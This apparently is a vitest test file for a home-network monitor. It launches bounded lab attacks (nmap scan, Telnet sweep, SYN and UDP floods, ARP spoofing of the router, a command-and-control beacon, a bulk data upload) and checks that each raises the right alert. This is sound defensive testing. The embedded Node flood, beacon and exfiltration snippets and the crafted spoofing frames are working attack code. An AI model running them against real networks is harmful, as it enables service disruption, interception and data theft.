/** Attacks from a device of the lab, with real tools and real packets: each is told, under its name, and soon. */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from 'vitest';
import { type Endpoint, parseIpv4, parseMac } from '../../src/simulator/wire/address.ts';
import { arpReply } from '../../src/simulator/wire/arp.ts';
import { Flag, tcpFrame } from '../../src/simulator/wire/tcp.ts';
import { writeCapture } from '../capture/write-capture.ts';
import { describeWith } from '../needs.ts';
import { createLab, type Lab, type Line, noLab, startMonitor, type Watcher } from './lab.ts';

/** Each is run inside as `node -e PROGRAM ARGUMENTS…`, and bounded in count and time. */
const TELNET_SWEEP = `
  const net = require('node:net');
  let next = 1;
  const timer = setInterval(() => {
    if (next >= process.argv.length) process.exit();
    net.connect({ host: process.argv[next++], port: 23 }).on('error', () => {});
  }, 100);`;
const UDP_FLOOD = `
  const socket = require('node:dgram').createSocket('udp4');
  const [address, count] = process.argv.slice(1);
  let sent = 0;
  const timer = setInterval(() => {
    for (let i = 0; i < 10; i++) socket.send('x'.repeat(20), 9, address, () => {});
    if ((sent += 10) >= Number(count)) { clearInterval(timer); socket.close(); }
  }, 10);`;
/** A word every 300 ms, to which this machine says that nobody listens there. */
const CHAT = `
  const socket = require('node:dgram').createSocket('udp4').on('error', () => {});
  const [address, count] = process.argv.slice(1);
  let said = 0;
  const timer = setInterval(() => {
    socket.send('x', 9, address, () => {});
    if (++said >= Number(count)) { clearInterval(timer); socket.close(); }
  }, 300);`;
const BEACON = `
  const net = require('node:net');
  const [address, port, count] = process.argv.slice(1);
  let called = 0;
  const call = () => {
    const socket = net.connect({ host: address, port: Number(port) }, () => socket.end('any orders? '.repeat(4)));
    socket.on('error', () => {}).resume();
    if (++called >= Number(count)) clearInterval(timer);
  };
  const timer = setInterval(call, 1_000);`;
const UPLOAD = `
  const net = require('node:net');
  const [address, port, megabytes] = process.argv.slice(1);
  const chunk = Buffer.alloc(1 << 20, 'secret');
  const socket = net.connect({ host: address, port: Number(port) });
  let sent = 0;
  const send = () => {
    while (sent < Number(megabytes)) { sent++; if (!socket.write(chunk)) return socket.once('drain', send); }
    socket.end();
  };
  socket.once('connect', send).resume();`;

/** A lab that is watched, for one test: they run side by side, since most of each is waiting. */
interface Scene {
  lab: Lab;
  /** The device and this machine, as its frames name them. */
  device: Endpoint;
  router: Endpoint;
  watcher: Watcher;
  /** A capture of those frames. */
  capture(frames: Uint8Array[]): string;
  /** Port of a server of this machine, which is the Internet to the device. */
  serve(): Promise<string>;
  /** The attack is told once as that kind and within that time, and of nobody but the one who is to be named. */
  expectAlert(kind: string, attack: Promise<unknown>, withinSeconds: number, named?: string): Promise<Line>;
}

const endpoint = (ip: string, mac: string): Endpoint => ({
  ...{ ip: parseIpv4(ip), mac: parseMac(mac), ttl: 64, padded: false },
  nextId: () => 0,
});

async function withScene(use: (scene: Scene) => Promise<void>): Promise<void> {
  const folder = mkdtempSync(path.join(tmpdir(), 'guardian-attack-'));
  const lab = createLab();
  const servers: Server[] = [];
  const watcher = await startMonitor(lab, '--learn-hours', '0');
  try {
    await use({
      ...{ lab, watcher },
      device: endpoint(lab.inside, lab.mac()),
      router: endpoint(lab.address, readFileSync(`/sys/class/net/${lab.interface}/address`, 'utf8').trim()),
      capture: (frames) => {
        const file = path.join(folder, 'frames.pcap');
        writeFileSync(file, writeCapture(frames.map((bytes, i) => ({ ts: i, bytes }))).bytes);
        return file;
      },
      serve: async () => {
        const server = createServer((socket) => socket.on('error', () => {}).resume());
        servers.push(server);
        await new Promise<void>((resolve) => server.listen(0, lab.outside, resolve));
        return String((server.address() as AddressInfo).port);
      },
      expectAlert: async (wanted, attack, withinSeconds, named = lab.inside) => {
        const fits = ({ type, kind }: Line): boolean => type === 'alert' && kind === wanted;
        const { line } = await watcher.next(fits, withinSeconds);
        expect(line.sentence).toMatch(/\d/);
        expect(line.advice.length).toBeGreaterThan(0);
        await attack;
        await watcher.stop();
        const alerts = watcher.lines.filter(({ type, kind }) => type === 'alert' && kind !== 'new-device');
        expect(alerts.filter(({ hosts }) => !hosts.includes(named)).map(({ sentence }) => sentence)).toEqual([]);
        expect(alerts.filter(({ updated, kind }) => !updated && kind === wanted)).toHaveLength(1);
        return line;
      },
    });
  } finally {
    await watcher.stop();
    for (const server of servers) server.close();
    lab.remove();
    rmSync(folder, { recursive: true });
  }
}

describeWith(noLab, 'attacks in a network of its own', { timeout: 90_000, concurrent: true }, () => {
  const attack = (name: string, run: (scene: Scene) => Promise<void>): void => test(name, () => withScene(run));

  attack('nmap looks for open ports', async ({ lab, expectAlert }) => {
    await expectAlert('scan', lab.run('nmap', '-n', '-Pn', '-sS', '-p', '1-400', lab.address), 10);
  });

  attack('somebody looks for Telnet in the whole network', async ({ lab, expectAlert }) => {
    const line = await expectAlert('scan', lab.run(process.execPath, '-e', TELNET_SWEEP, ...lab.addGhosts(60)), 30);
    expect(line.sentence).toMatch(/\d+ addresses/);
  });

  attack('SYN after SYN', async ({ lab, device, router, capture, expectAlert }) => {
    const syns = Array.from({ length: 4_000 }, (_, i) =>
      tcpFrame({
        ...{ from: device, fromPort: 1024 + ((i * 7) % 60_000), to: router, toPort: 80 },
        ...{ seq: i, ack: 0, flags: Flag.SYN, window: 1024 },
      }),
    );
    await expectAlert('flood', lab.replay(capture(syns), '--pps', '1000'), 10);
  });

  attack('datagram after datagram', async ({ lab, expectAlert }) => {
    await expectAlert('flood', lab.run(process.execPath, '-e', UDP_FLOOD, lab.address, '6000'), 10);
  });

  attack('somebody says that the router is here', async ({ lab, device, router, watcher, capture, expectAlert }) => {
    // The real one speaks meanwhile.
    const chat = lab.run(process.execPath, '-e', CHAT, lab.address, '25');
    // It has to start first.
    await watcher.next(({ type }) => type === 'device', 15);
    const lie = { mac: parseMac('02:00:00:00:66:66'), ip: router.ip };
    await expectAlert(
      'spoofing',
      Promise.all([chat, lab.replay(capture(Array(8).fill(arpReply(lie, device))), '--pps', '2')]),
      15,
      lab.address,
    );
  });

  attack('a device calls home like a clock', async ({ lab, serve, expectAlert }) => {
    const port = await serve();
    await expectAlert('beacon', lab.run(process.execPath, '-e', BEACON, lab.outside, port, '24'), 55);
  });

  attack('a device sends away far more than a device does', async ({ lab, serve, expectAlert }) => {
    const port = await serve();
    const line = await expectAlert(
      'exfiltration',
      lab.run(process.execPath, '-e', UPLOAD, lab.outside, port, '260'),
      45,
    );
    expect(line.hosts).toEqual([lab.inside, lab.outside]);
  });
});
